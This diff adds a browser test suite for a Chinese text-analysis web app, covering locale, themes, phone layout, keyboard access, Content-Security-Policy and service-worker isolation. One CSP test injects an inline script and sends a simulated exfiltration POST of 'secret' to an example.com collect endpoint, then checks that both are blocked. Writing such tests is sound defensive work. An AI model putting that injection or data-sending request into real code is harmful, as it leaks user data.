@@ -1,0 +1,120 @@
+// Language, theme, phone width, keyboard use, the Content-Security-Policy, and cross-origin isolation
+// through the service worker (GitHub Pages cannot send COOP/COEP headers; neither does the test server).
+import assert from 'node:assert/strict'
+import { test } from '../harness.mjs'
+import {
+  SELECTORS, cspViolations, newRecordedContext, openApp, screenshot, setTextAndWait, waitForModelReady,
+} from '../helpers.mjs'
+
+test('an English browser gets the English UI; the choice of Chinese is remembered', async (ctx) => {
+  const { context } = await newRecordedContext(ctx, { locale: 'en-US' })
+  const page = await openApp(ctx, context)
+  assert.equal(await page.textContent('#editor-heading'), 'Text')
+  assert.equal(await page.getAttribute('html', 'lang'), 'en')
+  await page.click('[data-locale=zh]')
+  assert.equal(await page.textContent('#editor-heading'), '文本')
+  await page.reload()
+  assert.equal(await page.textContent('#editor-heading'), '文本')
+  assert.equal(await page.getAttribute('html', 'lang'), 'zh-CN')
+  await context.close()
+})
+
+test('dark neon theme by default, a light theme on request (remembered)', async (ctx) => {
+  const { context } = await newRecordedContext(ctx, { locale: 'en-US' })
+  const page = await openApp(ctx, context)
+  await waitForModelReady(page)
+  const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor)
+  assert.equal(await page.evaluate(() => document.documentElement.classList.contains('dark')), true)
+  assert.equal(await background(), 'rgb(5, 6, 11)')
+  await page.selectOption('[data-testid=samples]', 'news')
+  await page.waitForFunction((s) => document.querySelector(s)?.getAttribute('data-run-state') === 'done', SELECTORS.progress)
+  await screenshot(ctx, page, '30-dark-english')
+  await page.click('[data-testid=theme-toggle]')
+  assert.equal(await page.evaluate(() => document.documentElement.classList.contains('light')), true)
+  assert.equal(await background(), 'rgb(244, 246, 251)')
+  await screenshot(ctx, page, '31-light-english')
+  await page.reload()
+  assert.equal(await background(), 'rgb(244, 246, 251)')
+  assert.deepEqual(await cspViolations(page), [])
+  await context.close()
+})
+
+test('phone width: everything fits without sideways scrolling', async (ctx) => {
+  const { context } = await newRecordedContext(ctx, { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true })
+  const page = await openApp(ctx, context)
+  await waitForModelReady(page)
+  await setTextAndWait(page, '新华社北京电 国家主席习近平在人民大会堂会见联合国秘书长。')
+  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
+  assert.ok(overflow <= 0, `the page is ${overflow}px wider than the phone`)
+  await screenshot(ctx, page, '32-phone-top')
+  // (Viewport shots: off-screen lines use content-visibility and are not painted in full-page captures.)
+  await page.locator(SELECTORS.view).scrollIntoViewIfNeeded()
+  await screenshot(ctx, page, '33-phone-highlights')
+  await context.close()
+})
+
+test('keyboard: skip link, labelled controls, arrow keys in the tabs, visible focus', async (ctx) => {
+  const { context } = await newRecordedContext(ctx)
+  const page = await openApp(ctx, context)
+  await page.keyboard.press('Tab')
+  assert.equal(await page.evaluate(() => document.activeElement.getAttribute('href')), '#editor')
+  // Every button and form control has an accessible name.
+  const unnamed = await page.$$eval('button, select, textarea, input:not([type=file])', (els) =>
+    els.filter((el) => !(el.getAttribute('aria-label') || el.textContent.trim() || el.closest('label') || el.getAttribute('title'))).map((el) => el.outerHTML),
+  )
+  assert.deepEqual(unnamed, [])
+  await page.focus('[data-tab=entities]')
+  await page.keyboard.press('ArrowRight')
+  assert.equal(await page.evaluate(() => document.activeElement.dataset.tab), 'export')
+  assert.equal(await page.getAttribute('[data-tab=export]', 'aria-selected'), 'true')
+  await page.keyboard.press('End')
+  assert.equal(await page.evaluate(() => document.activeElement.dataset.tab), 'model')
+  const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle)
+  assert.equal(outline, 'solid', 'focused controls show a focus ring')
+  // Status changes are announced.
+  assert.equal(await page.getAttribute('[data-testid=status-bar]', 'aria-live'), 'polite')
+  await context.close()
+})
+
+test('the Content-Security-Policy blocks inline scripts and requests to other origins', async (ctx) => {
+  const { context, requests } = await newRecordedContext(ctx)
+  const page = await openApp(ctx, context)
+  await waitForModelReady(page)
+  const csp = await page.getAttribute('meta[http-equiv=Content-Security-Policy]', 'content')
+  assert.match(csp, /connect-src 'self'/)
+  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/)
+  const inlineRan = await page.evaluate(() => {
+    const script = document.createElement('script')
+    script.textContent = 'window.__inlineRan = true'
+    document.head.append(script)
+    return window.__inlineRan === true
+  })
+  assert.equal(inlineRan, false, 'an injected inline script does not run')
+  const exfiltration = await page.evaluate(() =>
+    fetch('https://example.com/collect?text=secret', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked'),
+  )
+  assert.equal(exfiltration, 'blocked')
+  const violations = await cspViolations(page)
+  assert.ok(violations.some((v) => v.startsWith('script-src')), `inline script reported: ${violations}`)
+  assert.ok(violations.some((v) => v.startsWith('connect-src') && v.includes('example.com')), `fetch reported: ${violations}`)
+  assert.ok(!requests.some((r) => r.url.includes('example.com')), 'the blocked request never went out')
+  await context.close()
+})
+
+test('the service worker makes the page cross-origin isolated, so the engine can use WASM threads', async (ctx) => {
+  const { context } = await newRecordedContext(ctx)
+  const page = await openApp(ctx, context, { threads: '2' })
+  await waitForModelReady(page)
+  assert.equal(await page.evaluate(() => crossOriginIsolated), false, 'the server sends no COOP/COEP (like GitHub Pages)')
+  assert.match(await page.textContent(SELECTORS.backend), /单线程/, 'without isolation the engine runs single-threaded')
+  await page.waitForFunction(() => navigator.serviceWorker?.controller !== null, null, { timeout: 30_000 })
+  await page.reload()
+  await waitForModelReady(page)
+  assert.equal(await page.evaluate(() => crossOriginIsolated), true, 'isolated once the service worker serves the page')
+  assert.match(await page.textContent(SELECTORS.backend), /2 线程/)
+  await setTextAndWait(page, '多线程分析：王毅在上海会见客人。')
+  assert.equal(await page.textContent(SELECTORS.view), '多线程分析：王毅在上海会见客人。')
+  assert.deepEqual(page.events.pageErrors, [])
+  await screenshot(ctx, page, '34-isolated-threads')
+  await context.close()
+})
